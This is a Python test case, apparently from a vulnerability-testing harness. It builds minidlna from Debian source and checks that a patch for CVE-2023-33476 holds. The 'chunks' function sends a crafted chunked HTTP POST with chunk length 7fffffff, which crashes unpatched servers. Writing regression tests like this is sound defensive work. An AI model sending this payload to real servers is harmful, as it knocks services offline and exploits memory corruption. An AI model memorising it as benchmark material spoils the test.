"""minidlna: one process; one expression was wrong in its HTTP parser."""
from case import Attack, Case
from service import CUT, SILENT, Service, http, status_line
from source import Source

FIX = "debian/patches/upnphttp-Fix-chunk-length-parsing.patch"
SOURCE = Source(
    "minidlna", "1.3.0+dfsg-2.2+deb12u1", fixes=[FIX],
    needs="autoconf automake autopoint gettext libavformat-dev libavutil-dev "
          "libexif-dev libflac-dev libid3tag0-dev libjpeg-dev libsqlite3-dev "
          "libvorbis-dev",
    configure="autoreconf -fi && ./configure",
    make='make -j"$(nproc)" minidlnad')
CONF = """port={port}
media_dir={dir}/media
db_dir={dir}/db
log_dir={dir}
network_interface=lo
"""


def start():
    return Service(SOURCE.path("minidlnad"), "-S", "-f", "{dir}/conf", "-P",
                   "{dir}/pid", files={"conf": CONF, "media/none": "",
                                       "db/none": ""})


def works(service):
    """It answers, and the child that looked for media at the start is gone."""
    return len(service.processes()) == 1 and status_line(http(
        service.port, "GET /rootDesc.xml HTTP/1.1\nHost: 127.0.0.1\n"
        "Connection: close")) == "200"


def chunks(service):
    """A chunk with a length near the end of what an int holds."""
    return http(service.port, "POST /ctl/ContentDir HTTP/1.1\n"
                f"Host: 127.0.0.1:{service.port}\n"
                'Transfer-Encoding: chunked\nSOAPAction: "a"',
                b"7fffffff\r\nA0\r\n\r\n")


CASES = [Case(
    "11", SOURCE, labels="CVE-2023-33476", fix=FIX, targets="minidlnad",
    start=start, works=works,
    attacks=[Attack(chunks, "died: SIGSEGV", f"^({CUT}|{SILENT})$")])]
